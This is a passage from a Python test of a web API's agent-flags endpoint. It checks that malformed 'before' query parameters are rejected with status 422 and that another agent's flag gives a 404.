                    "before=1e3"):
            assert c.get(f"/api/agents/agent-a1/flags?{bad}",
                         headers=cookie).status_code == 422, bad
        r = c.get(f"/api/agents/agent-a1/flags?before={b_flag}", headers=cookie)
        assert r.status_code == 404  # another agent's flag is no place in this list
    finally:
        c.close()
